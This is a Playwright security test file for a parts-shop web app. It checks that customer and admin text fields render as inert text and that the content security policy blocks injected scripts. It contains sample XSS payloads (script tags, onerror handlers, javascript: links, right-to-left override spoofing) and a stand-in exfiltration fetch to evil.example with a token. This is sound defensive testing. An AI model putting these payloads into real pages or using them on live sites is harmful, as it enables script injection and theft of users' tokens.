import type { Page } from '@playwright/test';
import { IS_QUICK } from './quick';
import { aStranger } from './support/accounts';
import { callAsAdmin, callAsUser } from './support/api';
import { answer } from './support/network';
import { payByApi } from './support/orders';
import { addPart, uniqueWord } from './support/samples';
import { main } from './support/session';
import { expect, test } from './support/test';

/** A control character that reverses the reading direction of the text after it. */
const RIGHT_TO_LEFT_OVERRIDE = '\u202E';

/** Stands for the mark in texts that are sent: the API refuses the mark itself, but earlier versions stored it. */
const STORED_MARK = '⟲';

/** A text that runs a script if it is rendered as HTML, and reverses the text next to it if it is not isolated. */
const hostile = (field: string) =>
  `${field} <script>window.ran='${field}'</script><img src=x onerror="window.ran='${field}'">${STORED_MARK}txt`;

const withMarks = (text: string) => text.replaceAll(STORED_MARK, RIGHT_TO_LEFT_OVERRIDE);

/** Lets the page get the marks that stored texts of an earlier version have. */
async function readWithMarks(page: Page): Promise<void> {
  await page.route(/\/api\/(?!events)/, async (route) => {
    if (route.request().method() !== 'GET') return route.fallback();
    const response = await route.fetch();
    return route.fulfill({ response, body: withMarks(await response.text()) });
  });
}

/** `make test` opens every fifth page; the last one is always among them. */
const some = (paths: string[]) => (IS_QUICK ? paths.filter((_, index) => (paths.length - index) % 5 === 1) : paths);

const RUNS_WHEN_CLICKED = "javascript:window.ran='link'";

/** Expects that no text was parsed as HTML, and that no other text was reversed by an override. */
async function expectInert(page: Page): Promise<void> {
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  await expect(page.locator('[aria-busy="true"]')).toHaveCount(0);
  const found = await page.evaluate((override) => {
    const reversed: string[] = [];
    const texts = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    for (let node = texts.nextNode(); node; node = texts.nextNode()) {
      const text = node.textContent ?? '';
      if (text.includes(override)) continue;
      const rectOf = (offset: number) => {
        const range = document.createRange();
        range.setStart(node, offset);
        range.setEnd(node, offset + 1);
        return range.getBoundingClientRect();
      };
      const word = /[A-Za-z]{2,}/.exec(text);
      if (!word) continue;
      const first = rectOf(word.index);
      const second = rectOf(word.index + 1);
      if (first.top === second.top && first.width > 0 && second.left < first.left) reversed.push(text);
    }
    return {
      ran: (window as { ran?: string }).ran,
      inlineScripts: document.querySelectorAll(
        'script:not([src], [type="application/ld+json"], [type="application/json"]#shop)',
      ).length,
      handlers: document.querySelectorAll('[onerror]').length,
      scriptLinks: document.querySelectorAll('[href^="javascript:" i], [src^="javascript:" i]').length,
      reversed,
    };
  }, RIGHT_TO_LEFT_OVERRIDE);
  expect(found).toEqual({ ran: undefined, inlineScripts: 0, handlers: 0, scriptLinks: 0, reversed: [] });
}

test.describe('texts that customers and admins enter', () => {
  test('are shown as text in every field of every page', async ({ adminPage, open }) => {
    const stranger = aStranger(hostile('name'));
    const page = await open('signUp', stranger);
    const q = uniqueWord();
    const part = {
      name: `${hostile('part')} ${q}`,
      description: hostile('description'),
      image_url: `https://example.com/"onerror="window.ran='picture'`,
      price: 7,
      quantity: 90,
      min_order: 1,
    };
    const { insertedId: partId } = await callAsAdmin<{ insertedId: string }>(page, 'POST', '/parts', part);
    const profile = await callAsUser<{ _id: string }>(page, 'GET', `/user/${stranger.email}`);
    await callAsUser(page, 'PUT', `/update/${profile._id}`, {
      education: hostile('education'),
      location: hostile('location'),
    });
    const author = { name: stranger.name, review: `${hostile('review')} ${q}`, rating: 4 };
    await callAsUser(page, 'POST', '/reviews', author);
    const order = {
      name: stranger.name,
      email: stranger.email,
      part_id: partId,
      part_name: part.name,
      part_image: part.image_url,
      delivery_address: hostile('address'),
      delivery_phone: '+15550100',
      amount: 2,
      total_price: 14,
    };
    const { insertedId: paid } = await callAsUser<{ insertedId: string }>(page, 'POST', '/orders', order);
    await payByApi(page, { id: paid, partName: part.name, total: 14 });
    await callAsUser(adminPage, 'POST', `/orders/${paid}/refunds`, { amount: 14 }, { 'Idempotency-Key': q });
    await callAsAdmin(page, 'PATCH', `/shipped/${paid}`, { override: true, reason: `${hostile('reason')} ${q}` });
    const { insertedId: unpaid } = await callAsUser<{ insertedId: string }>(page, 'POST', '/orders', order);

    for (const each of [page, adminPage]) await readWithMarks(each);
    for (const path of some([
      `/?q=${q}`,
      `/?q=${encodeURIComponent(withMarks(hostile('search')))}`,
      `/purchase/${partId}`,
      '/dashboard',
      `/dashboard/my-orders/${paid}`,
      `/dashboard/payment/${unpaid}`,
      `/dashboard/payment/${paid}`,
      '/dashboard/my-orders',
    ])) {
      await test.step(`customer: ${path}`, async () => {
        await page.goto(path);
        if (!path.includes('search')) await expect(page.locator('body')).toContainText('<script>');
        await expectInert(page);
      });
    }
    await main(page).getByRole('button', { name: 'Cancel' }).click();
    await expect(page.getByRole('dialog')).toContainText('<script>');
    await expectInert(page);

    for (const path of some([
      '/dashboard/overview',
      `/dashboard/orders/${paid}`,
      `/dashboard/reviews?q=${q}`,
      `/dashboard/make-admin?q=${encodeURIComponent(stranger.email)}`,
      `/dashboard/customers?q=${encodeURIComponent(stranger.email)}`,
      `/dashboard/manage-orders?q=${q}`,
      `/dashboard/invoices?q=${encodeURIComponent(stranger.email)}`,
      '/dashboard/reconciliation',
      `/dashboard/edit-part/${partId}`,
      `/dashboard/audit-log?q=${q}`,
      `/dashboard/manage-part?q=${q}`,
    ])) {
      await test.step(`admin: ${path}`, async () => {
        await adminPage.goto(path);
        if (!/make-admin|customers|overview|reconciliation|edit-part/.test(path))
          await expect(main(adminPage).getByText('<script>').first()).toBeVisible();
        if (path.includes('edit-part'))
          await expect(main(adminPage).getByLabel('Part Name')).toHaveValue(withMarks(part.name));
        if (path.includes('audit-log')) await expect(main(adminPage)).toContainText("window.ran='reason'");
        await expectInert(adminPage);
      });
    }
    await main(adminPage).getByRole('button', { name: 'Delete' }).click();
    await adminPage.getByRole('button', { name: 'Yes' }).click();
    await expect(adminPage.getByText(/deleted\.$/)).toBeVisible();
    await expectInert(adminPage);
    // Requests may still be under way when the pages close.
    for (const each of [page, adminPage]) await each.unrouteAll({ behavior: 'ignoreErrors' });
  });

  test('never become links that run scripts', { tag: '@all' }, async ({ customerPage: page, customer }) => {
    const own = await callAsUser<{ _id: string }>(page, 'GET', `/user/${encodeURIComponent(customer.email)}`);
    await expect(callAsUser(page, 'PUT', `/update/${own._id}`, { linkedinUrl: RUNS_WHEN_CLICKED })).rejects.toThrow(
      'Please enter a valid link',
    );
    const { id } = await addPart(page);
    await expect(callAsAdmin(page, 'PUT', `/parts/${id}`, { image_url: RUNS_WHEN_CLICKED })).rejects.toThrow(
      'Please enter a valid link',
    );

    // An earlier version or an import may have stored such a URL.
    await answer(page, 'GET', `/user/**`, (route) =>
      route.fulfill({ json: { ...own, linkedinUrl: RUNS_WHEN_CLICKED, location: RUNS_WHEN_CLICKED } }),
    );
    await page.goto('/dashboard');
    await expect(main(page).getByText(RUNS_WHEN_CLICKED)).toHaveCount(2);
    await expectInert(page);

    await answer(page, 'GET', '/parts?**', async (route) => {
      const reply = await route.fetch();
      const parts = (await reply.json()) as object[];
      await route.fulfill({ response: reply, json: parts.map((part) => ({ ...part, image_url: RUNS_WHEN_CLICKED })) });
    });
    await page.goto('/');
    await expect(
      main(page)
        .getByRole('link', { name: /Buy Now/ })
        .first(),
    ).toBeVisible();
    expect(await page.evaluate(() => (window as { ran?: string }).ran)).toBeUndefined();
  });
});

test('the content security policy blocks injected scripts', async ({ page }) => {
  await page.goto('/');
  const outcome = await page.evaluate(async (link) => {
    const blocked: string[] = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => blocked.push(effectiveDirective));
    const state = window as { ran?: string };
    const inline = document.createElement('script');
    inline.textContent = "window.ran = 'inline'";
    const remote = document.createElement('script');
    remote.src = 'https://evil.example/steal.js';
    const data = document.createElement('script');
    data.src = "data:text/javascript,window.ran='data'";
    document.body.append(inline, remote, data);
    document.body.insertAdjacentHTML('beforeend', `<img src="/no-picture" onerror="window.ran = 'handler'">`);
    const anchor = document.createElement('a');
    anchor.href = link;
    document.body.append(anchor);
    anchor.click();
    const frame = document.createElement('iframe');
    frame.srcdoc = "<script>parent.ran = 'frame'</script>";
    document.body.append(frame);
    const base = document.createElement('base');
    base.href = 'https://evil.example/';
    document.head.append(base);
    await fetch('https://evil.example/collect?token=1').catch(() => undefined);
    for (let frames = 0; frames < 200 && blocked.length < 7; frames += 1) await new Promise(requestAnimationFrame);
    return { ran: state.ran, blocked: [...new Set(blocked)].sort(), base: document.baseURI };
  }, RUNS_WHEN_CLICKED);
  expect(outcome.ran).toBeUndefined();
  expect(outcome.base.startsWith(new URL(page.url()).origin)).toBe(true);
  expect(outcome.blocked).toEqual(['base-uri', 'connect-src', 'script-src-attr', 'script-src-elem']);
});
